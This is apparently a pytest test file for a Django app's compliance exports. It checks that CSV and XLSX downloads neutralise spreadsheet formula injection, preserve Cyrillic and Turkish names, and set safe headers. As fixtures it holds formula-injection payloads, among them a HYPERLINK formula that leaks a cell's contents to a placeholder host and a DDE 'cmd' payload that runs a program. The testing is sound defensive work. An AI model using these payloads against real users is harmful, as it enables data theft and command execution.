"""Every downloaded file is safe to open: no cell a spreadsheet would run as a formula, every
script intact, stable codes beside translated labels (issue #14, item 2)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from matrica import exports
from matrica.compliance.status import Status
from matrica.testing.factories import StaffMemberFactory

ON = "2026-06-30"
PAYLOADS = [
    '=HYPERLINK("http://x"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
EMPLOYEE_NUMBER = "=cmd|' /C calc'!A0"


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_loses_nothing(text):
    safe = exports.neutralise(text)
    assert not safe.startswith(exports.FORMULA_TRIGGERS)
    assert (safe[1:] if safe != text else safe) == text


@given(st.text().filter(lambda text: not text.startswith(exports.FORMULA_TRIGGERS)))
def test_harmless_text_is_left_alone(text):
    assert exports.neutralise(text) == text


@pytest.fixture
def hostile(world):
    """People of Serbia whose given names and employee numbers are formula payloads."""
    prison = world["RS"].prison
    people = [
        StaffMemberFactory(institution=prison, given_name=payload, employee_number=f"X-{index}")
        for index, payload in enumerate(PAYLOADS)
    ]
    people.append(StaffMemberFactory(institution=prison, employee_number=EMPLOYEE_NUMBER))
    people.append(StaffMemberFactory(institution=prison, given_name="İlknur", family_name="Işık"))
    return world


def download(client, world, file_format):
    client.force_login(world["RS"].users["national_admin"])
    response = client.get(reverse("compliance:export", args=[file_format]) + f"?on={ON}")
    assert response.status_code == 200
    return response


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.django_db
def test_csv_export_quotes_every_formula_payload(client, hostile):
    body = csv_rows(download(client, hostile, "csv"))[1:]
    names = {row[1] for row in body}
    numbers = {row[0] for row in body}
    for payload in PAYLOADS:
        assert not any(name.startswith(payload) for name in names)
        assert any(name.startswith("'" + payload) for name in names)
    assert "'" + EMPLOYEE_NUMBER in numbers
    assert all(not cell.startswith(exports.FORMULA_TRIGGERS) for row in body for cell in row)


@pytest.mark.django_db
def test_xlsx_export_holds_no_formula_and_the_neutralised_text(client, hostile):
    sheet = xlsx_sheet(download(client, hostile, "xlsx"))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    numbers = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    for payload in PAYLOADS:
        # XML reads a carriage return back as a line feed; the quote before it is what counts.
        expected = "'" + payload.replace("\r", "\n")
        assert any(name.startswith(expected) for name in names)
    assert "'" + EMPLOYEE_NUMBER in numbers


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_every_script_round_trips(client, hostile, file_format):
    response = download(client, hostile, file_format)
    if file_format == "csv":
        names = {row[1] for row in csv_rows(response)[1:]}
    else:
        names = {row[1] for row in xlsx_sheet(response).iter_rows(min_row=2, values_only=True)}
    assert {"Ђорђе Ђорђевић", "Milica Đorđević", "İlknur Işık"} <= names


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "sr", "tr"])
def test_a_stable_status_code_stands_beside_the_translated_status(client, world, language):
    client.force_login(world["RS"].users["national_admin"])
    url = reverse("compliance:export", args=["csv"]) + f"?on={ON}"
    header, *body = csv_rows(client.get(url, headers={"accept-language": language}))
    assert body
    labels = {row[7] for row in body}
    assert {row[8] for row in body} <= set(Status.values)
    if language == "en":
        assert header[7:9] == ["Status", "Status code"]
        assert labels <= set(Status.labels)
    else:
        assert header[7] != "Status"
        assert not labels & set(Status.values)


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_download_is_never_cached_and_has_a_safe_name(client, world, file_format):
    response = download(client, world, file_format)
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"] == (
        f'attachment; filename="matrica-compliance-rs-{ON}.{file_format}"'
    )


def test_xlsx_keeps_numbers_and_dates_and_drops_characters_xml_cannot_hold():
    import datetime

    stream = io.BytesIO()
    table = exports.Table(
        header=["a", "b", "c", "d"],
        rows=[[-2, datetime.date(2026, 1, 2), "bell\x07", "#N/A"]],
        title="Compliance: [all]",
    )
    assert exports.write_xlsx(table, stream) == 1
    sheet = load_workbook(stream).active
    number, date, text, error = next(sheet.iter_rows(min_row=2))
    assert number.value == -2
    assert date.value.date() == datetime.date(2026, 1, 2)
    assert text.value == "bell"
    assert (error.value, error.data_type) == ("#N/A", "s")


def test_file_names_hold_only_safe_characters():
    assert exports.filename("compliance", 'a"b/c\r\n', extension="csv") == (
        "matrica-compliance-abc.csv"
    )
